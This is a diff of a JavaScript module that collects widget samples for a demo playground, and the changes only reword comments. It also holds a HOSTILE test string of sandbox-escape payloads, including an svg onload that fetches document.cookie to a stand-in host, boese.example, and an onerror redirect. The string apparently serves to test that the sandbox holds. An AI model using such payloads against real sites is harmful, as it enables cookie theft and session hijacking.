@@ -1,7 +1,10 @@
-/** Samples of widgets for the playground: the first of each kind that the demo's pages print, so that nobody keeps a second list. */
+/**
+ * Collects samples of widgets for the playground: the first widget of each kind on the demo's pages, so that there is
+ * no second list to maintain.
+ */
 import { tokenize } from '../saved/tokens.mjs';
 
-/** What is only text, or a frame for others, is no sample of anything. */
+/** Widgets that are only text or static markup are no useful samples. */
 const PLAIN = new Set([
   'html',
   'text-editor',
@@ -13,7 +16,7 @@ const PLAIN = new Set([
   'divider',
   'spacer',
 ]);
-/** More than this nobody wants to read in a field, characters. */
+/** Longer widgets are left out, because nobody would read them in the field, characters. */
 const MAX_LENGTH = 20_000;
 const VOID = new Set([
   'area',
@@ -31,7 +34,7 @@ const VOID = new Set([
   'wbr',
 ]);
 
-/** Where the element that begins with piece `at` ends, as a place in the text. */
+/** Returns the position of the end of the element that begins with piece `at`. */
 function endOf(pieces, at) {
   let depth = 0;
   for (const { kind, name, end } of pieces.slice(at)) {
@@ -44,7 +47,7 @@ function endOf(pieces, at) {
 
 const attributeOf = ({ attributes }, wanted) => attributes.find(({ name }) => name === wanted)?.value ?? '';
 
-/** A piece of a page, moved to the left as far as all of it goes. */
+/** Removes the indentation that all lines after the first have in common. */
 function dedent(html) {
   const lines = html.split('\n');
   const indent = Math.min(
@@ -59,7 +62,7 @@ function dedent(html) {
 
 /**
  * @param {string} html a page
- * @returns {Map<string, string>} HTML by kind of widget
+ * @returns {Map<string, string>} the HTML of one widget of each kind, by kind
  */
 export function samplesOf(html) {
   const pieces = tokenize(html);
@@ -74,7 +77,7 @@ export function samplesOf(html) {
   return found;
 }
 
-/** Tries to get out of the playground in some ways that attackers take. */
+/** Tries to escape from the playground in common ways of attackers. */
 const HOSTILE = `<script>document.title = 'ausgebrochen'; parent.document.title = 'ausgebrochen'</script>
 <img src="x" onerror="top.location = 'https://boese.example/'">
 <svg onload="fetch('https://boese.example/' + document.cookie)"></svg>
@@ -90,7 +93,7 @@ const HOSTILE = `<script>document.title = 'ausgebrochen'; parent.document.title 
 /**
  * @param {{ path: string }[]} pages of the demo
  * @param {(page: object) => Promise<string>} print
- * @returns {Promise<{ name: string, html: string }[]>} by name
+ * @returns {Promise<{ name: string, html: string }[]>} sorted by name
  */
 export async function collectSamples(pages, print) {
   const printed = await Promise.all(pages.map(print));
